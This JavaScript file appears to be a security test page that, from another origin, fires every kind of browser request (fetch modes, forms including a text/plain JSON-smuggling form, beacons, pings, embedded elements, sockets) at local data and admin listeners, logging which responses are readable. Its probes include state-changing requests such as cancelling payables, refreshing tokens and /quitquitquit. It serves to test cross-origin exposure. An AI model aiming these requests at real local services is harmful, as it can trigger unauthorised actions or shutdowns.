// Everything by which a page of another origin can make a browser send a
// request, against both listeners and under both of their names. A result that
// begins with READ is one that the page could read.
const query = new URLSearchParams(location.search);
const results = {};
const pause = (ms) => new Promise((done) => setTimeout(done, ms));

async function note(name, attempt) {
  try {
    results[name] = await Promise.race([attempt(), pause(5000).then(() => "no answer")]);
  } catch (err) {
    results[name] = "refused: " + err.message;
  }
}

async function read(response) {
  if (response.type === "opaque" || response.type === "opaqueredirect") return "opaque";
  return `READ ${response.status} ${(await response.text()).slice(0, 200)}`;
}

// element waits until a new element has loaded or failed.
function element(tag, attributes) {
  return new Promise((done) => {
    const e = Object.assign(document.createElement(tag), attributes);
    e.onload = e.onloadeddata = () => {
      let text = null;
      try {
        text = e.contentDocument && e.contentDocument.body && e.contentDocument.body.innerText;
      } catch {}
      done(text ? "READ frame " + text.slice(0, 200) : "loaded, unreadable");
    };
    e.onerror = () => done("failed");
    document.body.append(e);
  });
}

function form(action, attributes, value) {
  return new Promise((done) => {
    const name = "frame" + Math.random();
    const frame = Object.assign(document.createElement("iframe"), { name });
    document.body.append(frame);
    const f = Object.assign(document.createElement("form"), { action, target: name, ...attributes });
    f.append(Object.assign(document.createElement("input"), { name: '{"a":"', value: value }));
    document.body.append(f);
    frame.onload = () => {
      let text = null;
      try {
        text = frame.contentDocument.body.innerText;
      } catch {}
      done(text ? "READ form " + text : "loaded, unreadable");
    };
    f.submit();
  });
}

async function attack(label, base, api, write) {
  const url = base + api;
  const change = base + write;
  const plain = { "content-type": "text/plain" };
  const fetches = {
    "fetch GET": [url, {}],
    "fetch GET no-cors": [url, { mode: "no-cors" }],
    "fetch HEAD no-cors": [url, { mode: "no-cors", method: "HEAD" }],
    "fetch GET with cookies": [url, { credentials: "include" }],
    "fetch GET no-referrer": [url, { mode: "no-cors", referrerPolicy: "no-referrer" }],
    "fetch POST": [change, { method: "POST", body: "{}", headers: plain }],
    "fetch POST no-cors": [change, { method: "POST", mode: "no-cors", body: "{}", headers: plain }],
    "fetch POST no body no-cors": [change, { method: "POST", mode: "no-cors" }],
    "fetch POST keepalive": [change, { method: "POST", mode: "no-cors", body: "{}", keepalive: true }],
    "fetch POST form no-cors": [change, { method: "POST", mode: "no-cors", body: new URLSearchParams({ a: "b" }) }],
    "fetch POST multipart no-cors": [change, { method: "POST", mode: "no-cors", body: new FormData() }],
    "fetch POST JSON": [change, { method: "POST", body: "{}", headers: { "content-type": "application/json" } }],
    "fetch POST own field": [change, { method: "POST", headers: { "x-monite-entity-id": "11111111-1111-4111-8111-111111111111" } }],
    "fetch PUT": [change, { method: "PUT", body: "{}" }],
    "fetch PATCH": [change, { method: "PATCH", body: "{}" }],
    "fetch DELETE": [change, { method: "DELETE" }],
  };
  for (const [name, [at, options]] of Object.entries(fetches)) {
    await note(`${label}: ${name}`, async () => read(await fetch(at, options)));
  }
  for (const [tag, attributes] of Object.entries({
    img: { src: url + "?img" },
    script: { src: url + "?script" },
    link: { rel: "stylesheet", href: url + "?link" },
    iframe: { src: url + "?iframe" },
    object: { data: url + "?object" },
    embed: { src: url + "?embed" },
    video: { src: url + "?video" },
    audio: { src: url + "?audio", preload: "auto" },
  })) {
    await note(`${label}: <${tag}>`, () => element(tag, attributes));
  }
  await note(`${label}: module`, () => import(url + "?module").then(() => "READ module"));
  await note(`${label}: form GET`, () => form(url, { method: "get" }, "x"));
  await note(`${label}: form POST`, () => form(change, { method: "post" }, "x"));
  await note(`${label}: form POST text/plain`, () => form(change, { method: "post", enctype: "text/plain" }, '"}'));
  await note(`${label}: sendBeacon`, async () => "sent: " + navigator.sendBeacon(change, "{}"));
  await note(`${label}: <a ping>`, async () => {
    const a = Object.assign(document.createElement("a"), { href: "#", ping: change });
    document.body.append(a);
    a.click();
    return "clicked";
  });
  await note(
    `${label}: XMLHttpRequest`,
    () =>
      new Promise((done) => {
        const x = new XMLHttpRequest();
        x.onload = () => done(`READ ${x.status} ${x.responseText}`);
        x.onerror = () => done("failed");
        x.open("GET", url);
        x.send();
      }),
  );
  await note(
    `${label}: EventSource`,
    () =>
      new Promise((done) => {
        const events = new EventSource(url);
        events.onopen = events.onmessage = () => done("READ events");
        events.onerror = () => {
          events.close();
          done("failed");
        };
      }),
  );
  await note(
    `${label}: WebSocket`,
    () =>
      new Promise((done) => {
        const socket = new WebSocket(url.replace("http:", "ws:"));
        socket.onopen = () => done("READ socket is open");
        socket.onerror = () => done("failed");
      }),
  );
}

(async () => {
  for (const host of ["127.0.0.1", "localhost"]) {
    await attack(`data, ${host}`, `http://${host}:${query.get("data")}`, "/v1/payables", "/v1/payables/x/cancel");
  }
  const admin = `http://127.0.0.1:${query.get("admin")}`;
  await attack("admin, refresh", admin, "/status", "/tokens/refresh");
  await attack("admin, quit", admin, "/metrics", "/quitquitquit");
  await pause(500); // beacons and pings are sent when there is time
  await fetch("/report", { method: "POST", body: JSON.stringify(results) });
})();
